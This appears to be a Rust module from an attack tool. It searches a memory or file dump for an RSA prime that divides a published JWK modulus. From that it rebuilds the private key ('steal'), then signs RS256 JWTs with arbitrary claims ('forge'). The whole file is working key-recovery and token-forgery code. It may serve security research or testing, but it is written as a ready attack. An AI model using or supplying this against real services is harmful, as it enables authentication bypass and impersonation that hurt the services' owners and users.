//! Somebody who has the dump and the published key: half of the private key is in the dump if a number in it divides the modulus.

use anyhow::{Context as _, Result};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use rsa::pkcs1::EncodeRsaPrivateKey as _;
use rsa::{BigUint, RsaPrivateKey};
use serde_json::Value;
use std::path::Path;

/// A prime of RSA-2048, in bytes.
const PRIME_BYTES: usize = 128;

/// Takes the private key of a published key from a file; none if it is not there.
///
/// A prime is looked for as DER writes it (big-endian, at any place) and as libraries keep it (little-endian words, at multiples of eight).
pub(crate) fn steal(file: &Path, jwk: &Value) -> Result<Option<RsaPrivateKey>> {
    let bytes = std::fs::read(file).with_context(|| format!("read {}", file.display()))?;
    let modulus = number(jwk, "n")?;
    let zero = BigUint::from(0_u8);
    for (at, window) in bytes.windows(PRIME_BYTES).enumerate() {
        let (Some(first), Some(last)) = (window.first(), window.last()) else { continue };
        let big = first & 0x80 != 0 && last & 1 != 0;
        let little = at % 8 == 0 && last & 0x80 != 0 && first & 1 != 0;
        if !(big || little) || window.iter().filter(|byte| **byte == 0).count() > ZEROS_MAX {
            continue;
        }
        let ways =
            [big.then(|| BigUint::from_bytes_be(window)), little.then(|| BigUint::from_bytes_le(window))];
        for prime in ways.into_iter().flatten() {
            if &modulus % &prime == zero {
                let other = &modulus / &prime;
                let key = RsaPrivateKey::from_p_q(prime, other, number(jwk, "e")?);
                return key.map(Some).context("make the private key");
            }
        }
    }
    Ok(None)
}

fn number(jwk: &Value, name: &str) -> Result<BigUint> {
    let text = jwk.get(name).and_then(Value::as_str).context("read the published key")?;
    Ok(BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(text).context("read the published key")?))
}

/// A token by the stolen key.
pub(crate) fn forge(key: &RsaPrivateKey, kid: &str, claims: &Value) -> Result<String> {
    let header = Header { kid: Some(kid.to_owned()), ..Header::new(Algorithm::RS256) };
    let der = key.to_pkcs1_der().context("write the stolen key")?;
    jsonwebtoken::encode(&header, claims, &EncodingKey::from_rsa_der(der.as_bytes())).context("forge a token")
}

/// Most zero bytes of a random number of this length; one in 10^18 has more.
const ZEROS_MAX: usize = 12;
